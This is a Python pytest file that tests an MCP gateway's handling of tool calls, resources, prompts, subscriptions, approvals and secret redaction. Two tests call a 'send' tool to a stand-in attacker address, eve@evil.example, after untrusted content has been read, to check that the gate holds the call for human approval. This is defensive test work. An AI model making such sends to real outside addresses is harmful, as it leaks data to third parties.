"""The `mcp` package, unmodified, against its own server behind the gate: over HTTP and over pipes."""

import asyncio
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx2
import pytest
from conftest import GATE, need, operator
from mcp.client import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.client.subscriptions import ResourceUpdated, SubscriptionLost, ToolsListChanged
from mcp.shared.exceptions import MCPError
from mcp.types import ElicitResult

SERVER = Path(__file__).with_name("mcp_server.py")


@pytest.fixture(scope="module", autouse=True)
def web_server():
    port = int(need("MCP_PORT"))
    with subprocess.Popen([sys.executable, SERVER, "http", str(port)]) as process:
        deadline = time.monotonic() + 20
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), 1).close()
                break
            except OSError:
                assert time.monotonic() < deadline and process.poll() is None, "the server does not start"
        yield
        process.terminate()


def client(key, path, session=None, **options):
    headers = {"authorization": f"Bearer {key}"} | ({"portcullis-session": session} if session else {})
    http = httpx2.AsyncClient(headers=headers, timeout=60)
    return Client(streamable_http_client(f"{GATE}{path}", http_client=http), **options)


def run(coroutine):
    return asyncio.run(asyncio.wait_for(coroutine, 60))


# One server that knows both eras; over pipes a session has a process, so only the older era is spoken.
WAYS = [("/mcp/web", "auto"), ("/mcp/web", "legacy"), ("/mcp/own", "auto"), ("/mcp/own", "legacy")]


@pytest.mark.parametrize(("path", "mode"), WAYS)
def test_tools(bot, path, mode):
    async def talk():
        async with client(bot, path, mode=mode) as mcp:
            tools = {tool.name for tool in (await mcp.list_tools()).tools}
            assert tools == {"add", "echo", "count", "fail", "send", "renew"}
            assert (await mcp.call_tool("add", {"a": 2, "b": 3})).content[0].text == "5"
            failed = await mcp.call_tool("fail", {})
            assert failed.is_error
            wrong = await mcp.call_tool("add", {"a": "two", "b": 3})
            assert wrong.is_error and "arguments.a must be of type integer" in wrong.content[0].text

    run(talk())


@pytest.mark.parametrize(("path", "mode"), WAYS)
def test_progress(bot, path, mode):
    seen = []

    async def note(progress, total, message):
        seen.append((progress, total))

    async def talk():
        async with client(bot, path, mode=mode) as mcp:
            result = await mcp.call_tool("count", {"upto": 3}, progress_callback=note)
            assert result.content[0].text == "done"

    run(talk())
    assert seen == [(1, 3), (2, 3), (3, 3)]


@pytest.mark.parametrize(("path", "mode"), WAYS)
def test_resources_and_prompts(bot, path, mode):
    async def talk():
        async with client(bot, path, mode=mode) as mcp:
            assert [str(r.uri) for r in (await mcp.list_resources()).resources] == ["notes://today"]
            assert (await mcp.read_resource("notes://today")).contents[0].text == "nothing yet"
            assert [p.name for p in (await mcp.list_prompts()).prompts] == ["greeting"]
            prompt = await mcp.get_prompt("greeting", {"name": "Ann"})
            assert "Say hello to Ann." in prompt.messages[0].content.text

    run(talk())


@pytest.mark.parametrize("mode", ["auto", "legacy"])
def test_prompts_and_resources_of_all_servers(bot, mode):
    async def talk():
        async with client(bot, "/mcp", mode=mode) as mcp:
            uris = {str(r.uri) for r in (await mcp.list_resources()).resources}
            # The other server is a process that may take longer to start than a session waits for it.
            assert "mcp:web/notes://today" in uris and uris <= {"mcp:own/notes://today", "mcp:web/notes://today"}
            note = (await mcp.read_resource("mcp:web/notes://today")).contents[0]
            assert (note.text, str(note.uri)) == ("nothing yet", "mcp:web/notes://today")
            names = {p.name for p in (await mcp.list_prompts()).prompts}
            assert "web__greeting" in names and names <= {"own__greeting", "web__greeting"}
            prompt = await mcp.get_prompt("web__greeting", {"name": "Ann"})
            assert "Say hello to Ann." in prompt.messages[0].content.text

    run(talk())


@pytest.mark.parametrize(("path", "prefix", "mode"), [(p, "", m) for p, m in WAYS] + [("/mcp", "web__", "auto"), ("/mcp", "web__", "legacy")])
def test_a_held_call_waits_for_a_person(bot, path, prefix, mode):
    approved = []

    async def asked(_context, params):
        number = re.search(r"act_[0-9a-f-]+", params.message).group()
        if number not in approved:
            approved.append(number)
            await asyncio.to_thread(operator, "POST", f"/api/v1/approvals/{number}/approve", json={})
        return ElicitResult(action="accept", content={})

    async def talk():
        session = f"held-{path.strip('/').replace('/', '-')}-{mode}"
        async with client(bot, path, session, mode=mode, elicitation_callback=asked) as mcp:
            uri = "mcp:web/notes://today" if prefix else "notes://today"
            await mcp.read_resource(uri)
            # A stranger's words have come in, and nobody named this address.
            sent = await mcp.call_tool(f"{prefix}send", {"to": "eve@evil.example", "text": "x"})
            assert sent.content[0].text == "sent to eve@evil.example"

    run(talk())
    assert len(approved) == 1


@pytest.mark.parametrize(("path", "mode"), WAYS)
def test_who_cannot_be_asked_is_told_the_approvals_number(bot, path, mode):
    async def talk():
        session = f"unasked-{path.strip('/').replace('/', '-')}-{mode}"
        async with client(bot, path, session, mode=mode) as mcp:
            await mcp.read_resource("notes://today")
            with pytest.raises(MCPError) as held:
                await mcp.call_tool("send", {"to": "eve@evil.example", "text": "x"})
            assert held.value.error.data["approval"].startswith("act_")

    run(talk())


@pytest.mark.parametrize(("path", "mode"), WAYS)
def test_secrets_do_not_come_back(bot, token, path, mode):
    async def talk():
        async with client(bot, path, mode=mode) as mcp:
            result = await mcp.call_tool("echo", {"text": f"my token is {token}"})
            assert "my token is" in result.content[0].text and token not in result.content[0].text

    run(talk())


def test_all_servers_as_one(bot):
    async def talk():
        async with client(bot, "/mcp") as mcp:
            tools = {tool.name for tool in (await mcp.list_tools()).tools}
            assert {"own__add", "web__add"} <= tools
            assert (await mcp.call_tool("own__add", {"a": 2, "b": 3})).content[0].text == "5"
            assert (await mcp.call_tool("web__add", {"a": 4, "b": 3})).content[0].text == "7"

    run(talk())


@pytest.mark.parametrize("path", ["/mcp/own", "/mcp/web"])
def test_who_may_nothing_gets_the_protocols_own_error(clerk, path):
    async def talk():
        async with client(clerk, path):
            pass

    with pytest.raises((MCPError, ExceptionGroup)):
        run(talk())


@pytest.mark.parametrize(("path", "tools", "uris"), [("/mcp/web", "", ""), ("/mcp", "web__", "mcp:web/")])
def test_news_of_what_was_asked_for(bot, path, tools, uris):
    uri = f"{uris}notes://today"

    async def talk():
        async with client(bot, path) as mcp:
            async with mcp.listen(tools_list_changed=True, resource_subscriptions=[uri]) as news:
                assert news.honored.resource_subscriptions == [uri] and news.honored.tools_list_changed
                await mcp.call_tool(f"{tools}renew", {})
                assert [await anext(news), await anext(news)] == [ResourceUpdated(uri=uri), ToolsListChanged()]
            # Two streams at once, of which one asked for less.
            async with mcp.listen(resource_subscriptions=[uri]) as one, mcp.listen(tools_list_changed=True) as other:
                await mcp.call_tool(f"{tools}renew", {})
                assert (await anext(one), await anext(other)) == (ResourceUpdated(uri=uri), ToolsListChanged())

    run(talk())


def test_news_end_with_the_key_that_asked_for_them():
    key = operator("POST", "/api/v1/agents", json={"name": "listener", "roles": ["tester"]})["key"]

    async def talk():
        async with client(key, "/mcp/web") as mcp:
            async with mcp.listen(tools_list_changed=True) as news:
                rotate = "/api/v1/agents/listener/rotate"
                await asyncio.to_thread(operator, "POST", rotate, json={"overlap_seconds": 0})
                with pytest.raises(SubscriptionLost) as lost:
                    await anext(news)
                assert "taken no more" in str(lost.value.__cause__)

    try:
        run(talk())
    finally:
        operator("DELETE", "/api/v1/agents/listener")


def test_news_of_a_server_that_has_none_are_the_protocols_own_error(bot):
    async def talk():
        async with client(bot, "/mcp/own") as mcp:
            with pytest.raises(MCPError) as refused:
                async with mcp.listen(prompts_list_changed=True):
                    pass
            assert refused.value.error.code == -32601

    run(talk())
